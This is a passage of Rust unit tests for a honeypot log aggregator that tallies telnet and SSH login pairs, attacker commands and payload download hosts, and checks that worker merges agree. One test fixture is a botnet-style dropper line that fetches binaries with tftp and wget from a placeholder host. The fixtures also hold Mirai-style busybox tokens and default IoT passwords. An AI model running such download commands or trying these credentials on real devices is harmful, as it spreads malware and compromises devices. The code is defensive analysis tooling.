            ..SessionState::default()
        };
        let parts = [
            part([192, 0, 2, 9]),
            part([192, 0, 2, 3]),
            part([192, 0, 2, 7]),
        ];
        for order in [[0, 1, 2], [2, 1, 0], [1, 2, 0], [2, 0, 1]] {
            let mut merged = SessionState::default();
            for i in order {
                merged.merge(parts[i]);
            }
            assert_eq!(merged.src, Some(IpAddr::from([192, 0, 2, 3])), "{order:?}");
            assert_eq!(merged.attempts, 3);
        }
    }

    /// Command rows ingested into an aggregator that merged another one, whose
    /// pairs carry that worker's command slots, count as in one aggregator.
    #[test]
    fn a_source_repeating_a_download_line_counts_each_time_but_is_one_scanner() {
        let line = "cd /tmp; tftp -g -r 7up 198.51.100.7; wget http://198.51.100.7:8080/bins/x86";
        let row = |src: u8, ts: i64| Event {
            ts: Some(ts),
            src: Some(IpAddr::from([192, 0, 2, src])),
            src_port: Some(1),
            dst_port: Some(23),
            protocol: "telnet".into(),
            session: Some(format!("s{src}").into()),
            kind: EventKind::Command { line: line.into() },
        };
        let filters = Filters::default();
        let mut agg = Aggregator::new(300);
        agg.ingest_batch(
            0,
            &[row(1, 1_000_000), row(1, 2_000_000), row(2, 3_000_000)],
            &filters,
        );
        agg.ingest(0, &row(1, 4_000_000), &filters);
        let host = agg.payloads.get("198.51.100.7").expect("payload host");
        assert_eq!(host.attempts, 8, "two downloads a line, four lines");
        assert_eq!(host.scanners.len(), 2);
        assert_eq!((host.first, host.last), (Some(1_000_000), Some(4_000_000)));
        assert_eq!(host.methods, ["tftp", "wget"]);
        assert_eq!(host.ports, [8080]);
        let mut files: Vec<&str> = host.files.iter().map(|f| &**f).collect();
        files.sort_unstable();
        assert_eq!(files, ["7up", "x86"]);
        let downloads: u64 = agg.downloads.values().sum();
        assert_eq!(downloads, 8);
        // The repeating source's lists equal those of a source that typed it once.
        let state = |ip: u8| {
            let s = agg
                .sources
                .get(&IpAddr::from([192, 0, 2, ip]))
                .expect("source");
            (s.lines().to_vec(), s.features().to_vec(), s.markers)
        };
        assert_eq!(state(1), state(2));
        assert!(!state(1).1.is_empty());
    }

    #[test]
    fn huge_fields_are_counted_by_their_first_bytes() {
        let auth = |user: String, pass: String| Event {
            ts: Some(1_000_000),
            src: Some(IpAddr::from([192, 0, 2, 1])),
            src_port: Some(1),
            dst_port: Some(23),
            protocol: "telnet".into(),
            session: Some("s".into()),
            kind: EventKind::Auth {
                username: user.into(),
                password: pass.into(),
                success: None,
            },
        };
        let long = "p".repeat(MAX_TEXT);
        // 'é' is two bytes: placed across the cut, it is dropped whole.
        let straddling = format!("{}é{}", "u".repeat(MAX_TEXT - 1), "u".repeat(10));
        let rows = [
            auth("root".into(), format!("{long}first tail")),
            auth("root".into(), format!("{long}another, longer tail")),
            auth(straddling.clone(), "x".into()),
        ];
        let mut agg = Aggregator::new(300);
        agg.ingest_batch(0, &rows, &Filters::default());
        let pair = agg.pairs.get(&PairRef {
            user: "root",
            pass: &long,
        });
        assert_eq!(pair.map(|p| p.count), Some(2));
        let cut = &straddling[..MAX_TEXT - 1];
        assert!(
            agg.pairs
                .get(&PairRef {
                    user: cut,
                    pass: "x"
                })
                .is_some()
        );
        assert!(
            agg.pairs
                .keys()
                .all(|k| k.user().len() <= MAX_TEXT && k.pass().len() <= MAX_TEXT)
        );
        let line = format!("echo {}; ./x", "A".repeat(3 * MAX_TEXT));
        let command = Event {
            kind: EventKind::Command { line: line.into() },
            ..auth(String::new(), String::new())
        };
        agg.ingest(0, &command, &Filters::default());
        let lines: Vec<usize> = agg.command_counts().map(|(l, _)| l.len()).collect();
        assert_eq!(lines, [MAX_TEXT]);
    }

    #[test]
    fn command_slots_survive_a_merge() {
        let row = |src: u8, user: &'static str, pass: &'static str| Event {
            ts: Some(1_000_000),
            src: Some(IpAddr::from([192, 0, 2, src])),
            src_port: Some(1),
            dst_port: Some(23),
            protocol: "telnet".into(),
            session: Some(format!("s{src}").into()),
            kind: EventKind::Auth {
                username: user.into(),
                password: pass.into(),
                success: None,
            },
        };
        let first = [row(1, "shell", "sh"), row(1, "/bin/busybox MIRAI", "x")];
        let second = [
            row(2, "enable", "system"),
            row(3, "shell", "sh"),
            row(2, "/bin/busybox MIRAI", "/bin/busybox ECCHI"),
        ];
        let again = [row(1, "/bin/busybox MIRAI", "x")];
        let (mut one, mut left, mut right) = (
            Aggregator::new(300),
            Aggregator::new(300),
            Aggregator::new(300),
        );
        let filters = Filters::default();
        for rows in [&first[..], &second[..], &again[..]] {
            one.ingest_batch(0, rows, &filters);
        }
        left.ingest_batch(0, &first, &filters);
        // `right` holds more sources, so the merge swaps sides: `left`'s pairs are
        // the ones added, with `left`'s command slots.
        right.ingest_batch(0, &second[..2], &filters);
        left.merge(right);
        let merged = PairRef {
            user: "/bin/busybox MIRAI",
            pass: "x",
        };
        assert_eq!(
            left.pairs.get(&merged).map(|p| p.commands),
            Some([NO_COMMAND; 2])
        );
        left.ingest_batch(0, &second[2..], &filters);
        left.ingest_batch(0, &again, &filters);
        let counts = |agg: &Aggregator| {
            let mut c: Vec<(String, u64)> = agg
                .command_counts()
                .map(|(l, n)| (l.to_string(), n))
                .collect();
            c.sort();
            c
        };
        assert_eq!(counts(&left), counts(&one));
        assert_eq!(
            counts(&one),
            [
                ("/bin/busybox ECCHI".to_string(), 1),
                ("/bin/busybox MIRAI".to_string(), 3),
                ("enable".to_string(), 1),
                ("sh".to_string(), 2),
                ("shell".to_string(), 2),
                ("system".to_string(), 1),
            ]
        );
        let tokens = |agg: &Aggregator| {
            let mut t: Vec<(String, u64)> = agg
                .busybox_tokens
                .iter()
                .map(|(k, &n)| (k.to_string(), n))
                .collect();
            t.sort();
            t
        };
        assert_eq!(tokens(&left), tokens(&one));
        assert_eq!(left.cmd_attempts, 6);
    }

    /// Rows of `sources` addresses: logins with a few dozen pairs, and commands.
    fn mixed_rows(count: u32, sources: u32) -> Vec<Event<'static>> {
        const USERS: [&str; 5] = ["root", "admin", "enable", "shell", "user"];
        const PASSES: [&str; 6] = ["xc3511", "admin", "system", "sh", "1234", ""];
        (0..count)
            .map(|i| {
                let src = i.wrapping_mul(2_654_435_761) % sources;
                Event {
                    ts: Some(i64::from(i) * 1_000_000),
                    src: Some(IpAddr::from((0x0a00_0000 + src).to_be_bytes())),
                    src_port: Some(1),
                    dst_port: Some(if i % 3 == 0 { 22 } else { 23 }),
                    protocol: if i % 4 == 0 { "ssh" } else { "telnet" }.into(),
                    session: Some(format!("s{}", src * 7 + i / 50).into()),
                    kind: EventKind::Auth {
                        username: USERS[(i % 5) as usize].into(),
                        password: PASSES[(i / 5 % 6) as usize].into(),
                        success: None,
                    },
                }
            })
            .collect()
    }

    /// Every source's state (as text), every pair with its count, and the totals.
    type MergedView = (Vec<String>, Vec<(String, String, u64)>, [u64; 3]);

    /// The [`MergedView`] of `agg`.
    fn merged_view(agg: &Aggregator) -> MergedView {
        let mut sources: Vec<String> = agg
            .sources
            .iter()
            .map(|(ip, s)| format!("{ip} {s:?}"))
            .collect();
        sources.sort();
        let mut pairs: Vec<(String, String, u64)> = agg
            .pairs
            .iter()
            .map(|(k, s)| (k.user().to_string(), k.pass().to_string(), s.count))
            .collect();
        pairs.sort();
        (
            sources,
            pairs,
            [agg.events, agg.cred_attempts, agg.cmd_attempts],
        )
    }

    /// Checks that `Sources::get`, `iter` and `iter_placed` agree: each source once,
    /// each at its own place.
    fn check_places(sources: &Sources) {
        let mut seen = Set::default();
        let mut places = Set::default();
        for (ip, state, place) in sources.iter_placed() {
            assert!(seen.insert(*ip), "{ip} twice");
            assert!(place < sources.places());
            assert!(places.insert(place), "place {place} twice");
            assert!(std::ptr::eq(sources.get(ip).unwrap(), state));
        }
        assert_eq!(seen.len(), sources.len());
        assert_eq!(sources.iter().count(), sources.len());
    }

    /// Workers' aggregators merged (by the whole-vector source merge) hold what one
    /// worker reading every row holds, however the rows were split: by source (as
    /// CSV shards are, disjoint sources) or row by row (every source in every
    /// part), in 2, 3 or 7 parts, merged one after another as `aggregate` does; and
    /// rows added after the merges land in the merged-in states.
    #[test]
    fn merged_workers_equal_one_worker_however_split() {
        let filters = Filters::default();
        let rows = mixed_rows(6_000, 700);
        let later = mixed_rows(1_000, 900);
        let mut one = Aggregator::new(300).sessions_per_source();
        one.ingest_batch(0, &rows, &filters);
        one.flush_runs();
        let want = merged_view(&one);
        one.ingest_batch(0, &later, &filters);
        one.flush_runs();
        let want_later = merged_view(&one);
        let by_source = |ev: &Event<'_>, parts: usize| {
            let ip = ev.src.unwrap();
            foldhash::fast::FixedState::with_seed(7).hash_one(ip) as usize % parts
        };
        for parts in [2usize, 3, 7] {
            for sharded in [true, false] {
                let mut workers: Vec<Aggregator> = (0..parts)
                    .map(|_| Aggregator::new(300).sessions_per_source())
                    .collect();
                for (i, ev) in rows.iter().enumerate() {
                    let w = if sharded {
                        by_source(ev, parts)
                    } else {
                        i % parts
                    };
                    workers[w].ingest_batch(0, std::slice::from_ref(ev), &filters);
                }
                let mut merged = Aggregator::new(300).sessions_per_source();
                for w in workers {
                    merged.merge(w);
                }
                merged.flush_runs();
                let label = format!("{parts} parts, sharded {sharded}");
                check_places(&merged.sources);
                assert_eq!(merged_view(&merged), want, "{label}");
                merged.ingest_batch(0, &later, &filters);
                merged.flush_runs();
                check_places(&merged.sources);
                assert_eq!(merged_view(&merged), want_later, "{label}, rows added");
            }
        }
    }
}
